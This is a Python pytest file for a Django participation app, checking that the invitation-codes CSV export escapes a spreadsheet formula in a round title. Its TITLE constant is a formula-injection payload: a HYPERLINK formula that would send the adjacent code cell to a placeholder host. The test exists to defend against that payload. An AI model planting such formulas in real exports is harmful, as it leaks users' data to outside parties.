"""The invitation codes download never hands a spreadsheet a formula (the round's title is typed by staff)."""

import csv
import io

import pytest
from django.urls import reverse

from commonweal.participation.models import BudgetRound

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://example.invalid/?c="&B2,"Riverside decides")'


def test_the_codes_file_writes_a_title_that_would_run_as_text(sign_in, make_round, staff):
    round_ = make_round(verification=BudgetRound.Verification.CODE)
    BudgetRound.objects.filter(pk=round_.pk).update(title=TITLE)
    response = sign_in(staff).post(
        reverse("participation:codes", kwargs={"pk": round_.pk}), {"count": "2", "download": "on"}
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0] == ["round", "code"]
    assert [row[0] for row in rows[1:]] == ["'" + TITLE] * 2
    assert all(row[1] and not row[1].startswith("'") for row in rows[1:])
